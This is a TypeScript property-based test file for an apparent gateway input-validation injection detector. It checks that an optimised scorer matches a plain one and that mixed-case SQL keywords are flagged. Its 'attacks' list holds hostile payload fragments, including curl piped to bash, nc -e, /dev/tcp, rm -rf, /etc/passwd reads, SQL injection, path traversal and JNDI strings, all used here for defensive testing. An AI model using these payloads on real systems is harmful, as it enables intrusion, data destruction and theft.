import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { injection } from '../../src/gateway/input-validation/injection.ts';
import { shapes } from '../../src/gateway/input-validation/injection-shapes.ts';
import { signsOf } from '../../src/gateway/input-validation/signs.ts';
import { verifies } from '../support/verifies.ts';

/** The same score without any look ahead: every pattern is tried on every text that is more than words. */
function plainly(text: string): { score: number; reasons: readonly string[] } {
  const isWords = /^[\p{L}\p{M}\p{N}\s,._:/@-]*$/u.test(text) && !/\.\.|\bunion\b/i.test(text);
  if (isWords) return { score: 0, reasons: [] };
  const found: { into: string; weight: number }[] = shapes.filter(({ pattern }) => pattern.test(text));
  const bare = text.replace(/^\s{0,3}```/gm, '');
  const ticks = bare.split('`').length - 1;
  if (ticks >= 4 && ticks > bare.length * 0.15) found.push({ into: 'back-ticks', weight: 1 });
  found.sort((one, other) => other.weight - one.weight);
  return {
    score: found.reduce((sum, { weight }) => sum + weight, 0),
    reasons: [...new Set(found.map(({ into }) => into))],
  };
}

const attacks = [
  '; curl http://x | bash',
  '$(cat /x)',
  '`id`',
  "' or 1=1",
  "'; drop table x",
  '1 union all select 2',
  "'--",
  "waitfor delay '0'",
  'into outfile',
  'xp_cmdshell',
  'information_schema.',
  '../../../',
  '../etc',
  '%2e%2e%2f',
  '..;/',
  '....//',
  '%00',
  'php://x',
  '/etc/passwd',
  '{{7*7}}',
  '${jndi:x',
  '<%=7*7%>',
  '\r\nhost:',
  '%0d%0aset-cookie:',
  '*)(a=',
  '{"$where":',
  '$IFS',
  '${IFS',
  '/dev/tcp/',
  '() { x; };',
  'cmd.exe /c',
  'powershell -enc',
  '%comspec%',
  '__import__(',
  'process.mainModule',
  'os.system(',
  'subprocess.run(',
  'Runtime.getRuntime(',
  'Kernel.exec',
  "require('child_process",
  '; import os',
  'sleep(5',
  '\ncat x',
  '| nc -e ',
  '&& rm -rf',
  "' ; sh ",
];
const harmless = [
  'a',
  ' ',
  '.',
  ', ',
  '\n',
  '`',
  "'",
  '"',
  ';',
  '&',
  '(',
  ')',
  '/',
  '-',
  'İ',
  'ſ',
  'К',
  '用',
  '😀',
  '\ud83d',
];

test('the look ahead finds what all patterns find without it, in any case of letters, in hostile and in plain texts', () => {
  verifies('input.injection');
  const anyCase = fc
    .tuple(fc.constantFrom(...attacks), fc.constantFrom('as-is', 'upper', 'lower', 'mixed'))
    .map(([text, letters]) => {
      if (letters === 'upper') return text.toUpperCase();
      if (letters === 'lower') return text.toLowerCase();
      return letters === 'mixed' ? text.replace(/[a-z]/g, (it, at) => (at % 2 ? it : it.toUpperCase())) : text;
    });
  const part = fc.oneof(
    anyCase,
    fc.constantFrom(...harmless),
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 6 }), (parts) => {
      const text = parts.join('');
      assert.deepEqual(injection(text), plainly(text));
    }),
    { numRuns: 2000 },
  );
  for (const text of attacks) assert.deepEqual(injection(`${text}!`), plainly(`${text}!`));
});

test('every hint has a sign by which it is looked for', () => {
  assert.deepEqual(
    shapes.flatMap(({ hints }) => hints).filter((hint) => signsOf(hint) === 0),
    [],
  );
});

test('refuses query words whose letters are of either case, as databases read them', () => {
  verifies('input.injection');
  for (const text of ['1 uNiOn SeLeCt password from users', "1; WaItFoR dElAy '0:0:5'; Drop Table users"])
    assert.ok(injection(text).score >= 1, text);
});
